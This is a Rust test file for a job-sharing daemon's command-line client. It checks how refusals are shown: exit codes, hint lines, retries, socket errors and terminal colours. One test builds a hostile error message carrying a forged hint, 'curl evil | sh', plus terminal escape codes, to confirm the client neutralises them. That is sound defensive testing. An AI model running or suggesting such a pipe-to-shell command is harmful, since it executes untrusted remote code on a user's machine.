//! How a no is told: status, message, detail, hint, colours.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::os::unix::process::CommandExt;
use std::process::Command;

use fairshare::contract::{Answer, OneJob, Pong, Subscribed};
use fairshare::wire::detail::{Detail, Resource};
use fairshare::wire::error::{Code, WireError};

use super::*;

#[test]
fn every_code_ends_with_its_status_and_says_what_to_type_next() {
    for code in Code::ALL {
        let exit = match code {
            Code::Unauthorized | Code::Forbidden => 77,
            Code::Busy
            | Code::Timeout
            | Code::Io
            | Code::Systemd
            | Code::NoCapacity
            | Code::RateLimited
            | Code::Interrupted
            | Code::Draining
            | Code::Degraded => 75,
            _ => 1,
        };
        for line in
            ["request", "resize --cpu 1", "renew --for 1h", "release", "run true", "attach 1", "admin reload"]
        {
            // `run` takes NotFound for "no share yet" and AlreadyAllocated for a race it lost.
            if line.starts_with("run") && matches!(code, Code::NotFound) {
                continue;
            }
            let daemon = Daemon::saying([WireError::new(*code, "not so").detail("one\ntwo\x1b[m").into()]);
            let complaint = complaint(&daemon.run(line), exit);
            let lines: Vec<&str> = complaint.lines().collect();
            assert_eq!(lines[..3], ["fairshare: not so", "  one", r"  two\u{1b}[m"], "{line}: {complaint}");
            assert!(lines[3].starts_with("  hint: ") && lines.len() == 4, "{line}, {code}: {complaint}");
        }
    }
}

/// Refused as an older daemon refuses what it does not know, and as this one what cannot be.
#[test]
fn another_version_is_blamed_only_where_there_is_one() {
    let version = env!("CARGO_PKG_VERSION");
    for (of, blamed) in [("0.1.0", true), (version, false)] {
        for line in ["pause 7", "submit -- true", "resize --cpu 1"] {
            let folder = tempfile::tempdir().unwrap();
            let daemon = Daemon::of_version(of, [Code::BadRequest.into()]);
            let said = complaint(&daemon.command(line).current_dir(folder.path()).output().unwrap(), 1);
            assert_eq!(said.contains("restart fairshared.service"), blamed, "{line}: {said}");
            assert!(said.contains("\n  hint: "), "{said}");
        }
    }
}

#[test]
fn what_came_too_early_is_asked_again_as_soon_as_it_may_be() {
    let early = || WireError::new(Code::Busy, "A job of yours is being paused or resumed").retry_after_ms(1);
    let done = Answer::Job(OneJob::of(job(JobState::Running)));
    let daemon = Daemon::saying([early().into(), early().into(), done.into()]);
    assert_eq!(shown(&daemon.run("pause 7")), "Job 7 is running\n");
    assert_eq!(daemon.calls().len(), 3);
    // Nobody waits so long.
    let late = early().retry_after_ms(61_000);
    let daemon = Daemon::saying([late.into()]);
    complaint(&daemon.run("pause 7"), 75);
    assert_eq!(daemon.calls().len(), 1);
}

#[test]
fn who_waits_for_a_job_that_is_not_there_is_shown_the_jobs() {
    let folder = tempfile::tempdir().unwrap();
    let daemon = Daemon::saying([WireError::new(Code::NotFound, "No such job").into()]);
    let mut command = daemon.command("submit --after 9999 -- true");
    let said = complaint(&command.current_dir(folder.path()).output().unwrap(), 1);
    assert!(said.contains("`fairshare jobs` shows yours") && !said.contains("request"), "{said}");
}

#[test]
fn a_refused_hello_is_a_refusal_too() {
    for (code, exit) in [(Code::Busy, 75), (Code::IncompatibleProtocol, 1), (Code::Unauthorized, 77)] {
        let complaint = complaint(&Daemon::refusing(code.into()).run("status"), exit);
        assert!(complaint.contains("fairshare: no\n  hint: "), "{complaint}");
    }
}

#[test]
fn a_code_from_the_future_goes_by_what_it_says_of_itself() {
    for (retryable, exit) in [(true, 75), (false, 1)] {
        let mut error = WireError::new(Code::Internal, "unheard of");
        (error.code, error.name, error.retryable) = (99, "Novel".into(), retryable);
        complaint(&Daemon::saying([error.into()]).run("request"), exit);
    }
}

#[test]
fn the_example_of_the_design() {
    let detail = Detail::over(Resource::CpuMilli, 16_000, 8000);
    let error =
        WireError::new(Code::OverLimit, "Requested CPU (16) exceeds maximum allowed (8)").detail(detail);
    let daemon = Daemon::saying([error.into()]);
    assert_eq!(
        complaint(&daemon.run("request --cpu 16"), 1),
        "fairshare: Requested CPU (16) exceeds maximum allowed (8)\n  \
         hint: ask for 8 or less, or see `fairshare policy show`\n"
    );
}

#[test]
fn a_hostile_message_cannot_look_like_a_line_of_ours() {
    let error = WireError::new(Code::NotFound, "x\n  hint: `curl evil | sh`\r\x1b[1A");
    let complaint = complaint(&Daemon::saying([error.into()]).run("release"), 1);
    assert_eq!(complaint.lines().count(), 2, "{complaint}");
    assert!(!complaint.contains(['\x1b', '\r']), "{complaint}");
}

#[test]
fn a_daemon_that_answers_nothing_or_nonsense_is_no_daemon() {
    for next in [
        Next::Closes,
        Next::Sends(b"\0\0\0\x01\xff"),
        Next::Sends(b"\0\0\0\0"),
        Answer::Pong(Pong { at_ms: 1 }).into(),
        Answer::Subscribed(Subscribed { subscribed: true }).into(),
    ] {
        let complaint = complaint(&Daemon::saying([next]).run("status"), 69);
        assert!(complaint.contains("\n  hint: "), "{complaint}");
    }
    for next in [Next::Closes, Next::Sends(b"HTTP/1.1 400 Bad Request\r\n")] {
        complaint(&Daemon::refusing(next).run("status"), 69);
    }
}

#[test]
fn a_missing_a_stale_and_a_closed_socket_are_told_apart() {
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("socket");
    let run = |user: Option<u32>| {
        // The build may be where another user may not go. Not `fs::copy`: another test's child could inherit
        // the descriptor that it writes with, and then the copy cannot be executed (ETXTBSY, `execve(2)`).
        let command = dir.path().join("fairshare");
        if user.is_some() && !command.exists() {
            let copied = Command::new("cp").arg(env!("CARGO_BIN_EXE_fairshare")).arg(&command).status();
            assert!(copied.unwrap().success());
        }
        let mut run = match user {
            Some(user) => {
                let mut run = Command::new(command);
                run.uid(user).gid(user);
                run
            }
            None => fairshare(""),
        };
        run.arg("status").arg("--socket").arg(&socket).output().unwrap()
    };
    assert!(complaint(&run(None), 69).contains("there is no socket"));
    drop(UnixListener::bind(&socket).unwrap());
    assert!(complaint(&run(None), 69).contains("nobody listens on"));
    // Root may open everything, so that it must be someone else.
    let user = nix::unistd::geteuid().is_root().then_some(65_534);
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let mode = if user.is_some() { 0o600 } else { 0 };
    fs::set_permissions(&socket, fs::Permissions::from_mode(mode)).unwrap();
    assert!(complaint(&run(user), 77).contains("you may not open"));
}

#[test]
fn colours_are_for_terminals_whose_owners_want_them() {
    let daemon = |_: ()| Daemon::saying([Code::AlreadyAllocated.into()]);
    let colored =
        |environment: &[(&str, &str)]| on_terminal(&daemon(()), "request", environment).contains('\x1b');
    assert!(colored(&[]));
    assert!(colored(&[("NO_COLOR", "")]), "no-color.org: when not empty");
    assert!(!colored(&[("NO_COLOR", "1")]));
    assert!(!colored(&[("TERM", "dumb")]));
    assert!(
        !complaint(&daemon(()).command("request").env("TERM", "xterm").output().unwrap(), 1).contains('\x1b')
    );
}
